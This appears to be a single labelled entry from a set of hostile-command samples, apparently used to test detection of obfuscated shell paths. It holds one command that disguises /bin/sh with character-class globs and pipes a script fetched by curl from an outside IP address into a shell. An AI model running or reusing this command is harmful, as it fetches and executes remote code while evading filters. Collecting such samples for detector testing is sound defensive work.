# disguised-command: character-class globs in a path to the shell
/b[i]n/s[h] -c 'curl -s http://203.0.113.7/c | /b[i]n/s[h]'
